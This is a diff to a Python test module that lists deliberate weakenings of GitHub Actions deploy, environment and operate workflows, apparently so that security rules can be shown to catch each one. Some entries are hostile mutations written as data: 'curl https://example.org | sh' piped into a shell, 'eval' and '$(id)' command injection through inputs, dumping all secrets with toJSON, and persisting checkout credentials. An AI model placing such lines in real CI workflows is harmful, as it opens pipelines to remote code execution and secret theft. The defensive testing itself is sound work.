@@ -8,14 +8,15 @@ from tests.workflows.files import Workflows
 from tests.workflows.test_rules import RULES, reviewed
 
 DEPLOY, DRIFT, ENVIRONMENT = "deploy.yml", "drift.yml", "environment.yml"
-PREVIEW, PULL, ROLLBACK = "preview.yml", "pull-request.yml", "rollback.yml"
+OPERATE, PREVIEW, PULL = "operate.yml", "preview.yml", "pull-request.yml"
 STEPS = "    steps:\n"
 VERIFY = "      - name: Verify the build and where it came from\n"
 PREFLIGHT = "      - name: Refuse what must not go live here\n"
 APPLY = "        if: steps.plan.outputs.changes == 'true'\n"
 REPORT = 'ship ci report environment "$ENVIRONMENT"'
-CHECKOUT = "        with:\n          persist-credentials: false\n"
-MAIN = "    if: github.ref == 'refs/heads/main'\n"
+CHECKOUT = "          persist-credentials: false\n"
+ON_MAIN = "github.ref == 'refs/heads/main'"
+MAIN = f"    if: {ON_MAIN}\n"
 NEVER = "        if: inputs.environment != 'production'\n"
 OWN = "github.event.pull_request.head.repo.full_name == github.repository"
 
@@ -42,14 +43,32 @@ REMOVALS = [
     (DEPLOY, "          overwrite: true # by a second attempt of this run, with the same bytes\n", ""),
     (DEPLOY, "needs: [build, attest]", "needs: [build]"),
     (DEPLOY, f"{LAST}\n      digest: ${{{{ needs.build", f"{LAST}\n      digest: ${{{{ needs.attest"),
-    (DEPLOY, f"{MAIN}    permissions:", "    if: always()\n    permissions:"),
+    (DEPLOY, f"    if: {ON_MAIN} && !contains(", "    if: always() && !contains("),
+    (DEPLOY, " && !contains(needs.*.outputs.frozen, 'true')", ""),
+    (ENVIRONMENT, "      frozen: ${{ steps.preflight.outputs.frozen }}\n", ""),
+    # What is applied is what was shown before the approval.
+    (ENVIRONMENT, ' --approved="$APPROVED"', ""),
+    (ENVIRONMENT, "needs.plan.result == 'success' && needs.plan.outputs.plan || ''", "''"),
+    (ENVIRONMENT, f"inputs.environment == '{LAST}'", "inputs.environment == 'another'"),
+    (ENVIRONMENT, "    needs: plan\n", ""),
+    (ENVIRONMENT, "!failure() && !cancelled()\n", "always()\n"),
+    (ENVIRONMENT, "--read-only --out review.tfplan", "--out review.tfplan"),
+    # A person gets the action that was chosen, with the environment's own role.
+    (OPERATE, "      name: ${{ inputs.environment }}\n", "      name: dev\n"),
+    (OPERATE, 'ship ci operate "$ACTION"', 'ship "$ACTION"'),
+    (OPERATE, "role/${{ vars.PROJECT }}-plan", "role/${{ vars.PROJECT }}-deploy-${{ inputs.environment }}"),
+    (OPERATE, "fetch-depth: 0 # the release's", "ref: ${{ inputs.release }} # the release's"),
+    (OPERATE, "commit: ${{ needs.fetch.outputs.commit }}", "commit: ${{ inputs.release }}"),
+    (OPERATE, "digest: ${{ needs.fetch.outputs.digest }}", "digest: ${{ inputs.run }}"),
+    (OPERATE, '"${{ inputs.action }}: ${{ inputs.reason }}"', '""'),
     (DEPLOY, f"{MAIN}    runs-on:", "    runs-on:"),
     # Nothing else runs beside a role.
     (ENVIRONMENT, REPORT, f"{REPORT}; curl https://example.org | sh"),
-    (ROLLBACK, '--to="$RELEASE" --reason="$REASON"', '--to="$RELEASE" && eval "$REASON"'),
-    (ROLLBACK, '--to="$RELEASE"', '--to="$(id)"'),
+    (OPERATE, '--until="$UNTIL" --reason="$REASON"', '--until="$UNTIL" && eval "$REASON"'),
+    (OPERATE, '--release="$RELEASE"', '--release="$(id)"'),
+    (OPERATE, '--release="$RELEASE"', "--release=${{ inputs.release }}"),
     (ENVIRONMENT, CHECKOUT, f"{CHECKOUT}          repository: other/repository\n"),
-    (ENVIRONMENT, CHECKOUT, f"{CHECKOUT}          ref: ${{{{ github.head_ref }}}}\n"),
+    (ENVIRONMENT, "ref: ${{ inputs.commit }}", "ref: ${{ github.head_ref }}"),
     (PULL, "          ref: ${{ github.event.pull_request.base.sha }}\n", ""),
     (ENVIRONMENT, STEPS, f"    container: python:latest\n{STEPS}"),
     (ENVIRONMENT, "    env:\n", "    env:\n      BASH_ENV: dist/site/index.html\n"),
@@ -59,8 +78,9 @@ REMOVALS = [
     (DEPLOY, "shell: bash", "shell: bash -c 'curl https://example.org | sh; . {0}'"),
     # Tokens and roles go no further.
     (ENVIRONMENT, "          allowed-account-ids: ${{ vars.AWS_ACCOUNT_ID }}\n", ""),
-    (ROLLBACK, "deploy-${{ inputs.environment }}", "deploy-production"),
+    (OPERATE, "deploy-${{ inputs.environment }}", "deploy-production"),
     (ENVIRONMENT, "          GITHUB_TOKEN: ${{ github.token }}\n", ""),
+    (ENVIRONMENT, "          GITHUB_TOKEN: ${{ github.token }}\n          REASON", "          REASON"),
     (ENVIRONMENT, CHECKOUT, CHECKOUT.replace("false", "true")),
     (PULL, "          PART: ${{ matrix.part }}\n", "          PART: ${{ secrets['X'] }}\n"),
     (PULL, "          PART: ${{ matrix.part }}\n", "          PART: ${{ toJSON(secrets) }}\n"),
@@ -82,7 +102,10 @@ REMOVALS = [
     (PULL, "        run: .venv/bin/ship build\n", "        run: .venv/bin/ship --help\n"),
     # Nothing is cut short, left out, or passed over.
     (ENVIRONMENT, "cancel-in-progress: false", "cancel-in-progress: true"),
-    (ENVIRONMENT, "      queue: max\n", ""),
+    (ENVIRONMENT, "${{ inputs.reason && format('-{0}', github.run_id) }}", ""),
+    (OPERATE, "-${{ inputs.action }}\n  queue: max", "\n  queue: max"),
+    (OPERATE, "  queue: max\n", ""),
+    (DEPLOY, "      - docs/**\n", "      - backend/**\n"),
     (DRIFT, LIST, "environment: [another]"),
     (PULL, "        if: contains(needs.*", "        if: github.event_name == 'push' && contains(needs.*"),
     (PULL, "          needs.check.result != 'success' ||", "          github.event_name == 'push' &&"),
